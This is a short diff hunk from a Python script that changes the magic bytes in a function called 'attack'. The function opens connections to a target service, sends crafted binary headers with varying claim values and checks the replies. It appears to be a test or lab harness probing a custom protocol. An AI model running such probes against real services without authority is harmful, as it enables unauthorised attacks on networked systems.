@@ -152,7 +152,7 @@ def attack(target: tuple[str, int]) -> list[socket.socket]:
   for claim in (7, 2, 0):
     s = socket.create_connection(target, timeout=20)
     nonce = os.urandom(16)
-    s.sendall(struct.pack('<4sIIB16s', b'MHT3', claim, 2, 0, nonce))
+    s.sendall(struct.pack('<4sIIB16s', b'MHT4', claim, 2, 0, nonce))
     reply = s.recv(48)
     if claim != 0:
       assert reply == b'', (claim, reply)
